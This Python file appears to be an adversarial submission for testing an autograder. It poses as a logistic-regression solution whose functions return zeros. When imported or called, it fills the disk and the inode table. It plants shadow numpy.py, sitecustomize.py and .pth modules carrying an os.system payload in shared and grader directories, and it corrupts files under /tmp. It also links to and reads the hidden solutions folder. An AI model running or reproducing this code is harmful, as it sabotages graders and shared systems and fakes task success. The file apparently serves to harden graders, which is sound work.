"""Category: filesystem abuse. Attack: fill the disk and the inode table from the work dir;
plant files in /tmp, /var/tmp, /dev/shm for later submissions; overwrite every writable file
under /tmp (canaries included) and the grader's code; symlink and hardlink the solutions
folder into the work dir and read through the links; drop shadow modules (numpy.py,
sitecustomize.py, a .pth file) where the grader or the next worker might import them; write an
.OTTER_LOG."""
import glob
import os

import numpy as np

SOLUTIONS = ["/work/main/solutions", "/work/main/solutions/logistic_regression.py"]
LEAK = {}


def _plant():
    for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "..", "../..", "/work/main", "/work/main/autograder"):
        for name in ("planted.txt", "numpy.py", "sitecustomize.py", "evil.pth", ".OTTER_LOG"):
            try:
                with open(os.path.join(d, name), "w") as fh:
                    fh.write("import os; os.system('touch /tmp/planted_pwned')\n")
            except OSError:
                pass
    for path in glob.glob("/tmp/**", recursive=True)[:5000]:
        if os.path.isfile(path):
            try:
                with open(path, "a") as fh:
                    fh.write("PLANTED")
            except OSError:
                pass
    for target in SOLUTIONS + glob.glob("/proc/*/cwd/solutions"):
        for link in (os.symlink, os.link):
            try:
                name = "link_" + str(abs(hash((target, link.__name__))))
                link(target, name)
                if os.path.isdir(name):
                    for f in os.listdir(name):
                        LEAK[f] = open(os.path.join(name, f)).read()
                else:
                    LEAK[name] = open(name).read()
            except OSError:
                pass


def _fill():
    try:
        with open("filler", "wb") as fh:
            for _ in range(1 << 14):
                fh.write(b"\0" * (1 << 20))
    except OSError as exc:
        print("disk fill stopped:", exc)
    made = 0
    try:
        for i in range(200_000):
            open(f"inode{i}", "w").close()
            made += 1
    except OSError as exc:
        print(f"inode fill stopped after {made}:", exc)


_plant()


def sigmoid(z):
    _fill()
    return np.zeros_like(np.asarray(z, dtype=np.float64))


def predict_proba(X, w, b):
    _plant()
    return np.zeros(X.shape[0])


def bce_loss(X, y, w, b):
    return 0.0


def grad_logits(X, y, w, b):
    return np.zeros(X.shape[0])


def gradients(X, y, w, b):
    if LEAK:
        print("leaked:", list(LEAK)[:5])
    return np.zeros(X.shape[1]), 0.0
